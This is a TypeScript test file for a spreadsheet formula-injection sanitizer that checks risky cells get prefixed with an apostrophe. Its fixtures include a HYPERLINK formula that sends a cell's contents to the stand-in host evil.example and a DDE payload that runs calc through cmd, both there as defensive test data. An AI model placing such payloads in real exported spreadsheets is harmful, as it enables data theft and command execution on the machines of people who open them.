import { describe, expect, it } from "vitest";
import { defuseFormula, neutralizeCell, spreadsheetSafe } from "./neutralize-cell";

// The formula rule, once: [text, would a spreadsheet evaluate it?]
const FORMULAS: [string, boolean][] = [
  ["=1+1", true],
  ['=HYPERLINK("http://evil.example/?x="&A1,"click")', true],
  ["=cmd|' /C calc'!A0", true],
  ["+1", true],
  ["-1", true],
  ["-2+3", true],
  ["@SUM(A1:A9)", true],
  ["\t=1+1", true],
  ["\rx", true],
  ["Kim Lee", false],
  ["a=b", false],
  ["1-2", false],
  [" =1", false],
  ["'=1", false],
  ["", false],
];

describe("defuseFormula, and every helper built on it", () => {
  it.each(FORMULAS)("%j (formula: %s)", (text, formula) => {
    const defused = formula ? `'${text}` : text;
    expect(defuseFormula(text)).toBe(defused);
    expect(neutralizeCell(text)).toBe(defused);
    expect(spreadsheetSafe(text, 100).startsWith("'")).toBe(formula || text.startsWith("'"));
  });
});

describe("neutralizeCell", () => {
  // [value, cell]
  const VALUES: [unknown, string][] = [
    [42, "42"],
    [-5, "'-5"],
    [null, ""],
    [undefined, ""],
    [new Date(Date.UTC(2026, 0, 2, 3, 4, 5, 6)), "2026-01-02T03:04:05.006Z"],
    [{ a: 1 }, '{"a":1}'],
    [true, "true"],
  ];
  it.each(VALUES)("%j → %j", (value, cell) => {
    expect(neutralizeCell(value)).toBe(cell);
  });
});

describe("spreadsheetSafe", () => {
  // [uploaded value, echoed]
  const ECHOES: [string, string][] = [
    ["Olivia Owner", "Olivia Owner"],
    ["a\nb", "a b"],
    ["a\u0000b\u007fc", "a b c"],
    ["\t=1+1", "' =1+1"],
    ["a".repeat(40), "a".repeat(40)],
    ["a".repeat(100), `${"a".repeat(40)}…`],
    [`=${"a".repeat(100)}`, `'=${"a".repeat(39)}…`],
  ];
  it.each(ECHOES)("%j → %j", (value, echoed) => {
    expect(spreadsheetSafe(value)).toBe(echoed);
  });
  it("takes a longer limit for file names", () => {
    expect(spreadsheetSafe("x".repeat(130), 120)).toBe(`${"x".repeat(120)}…`);
  });
});
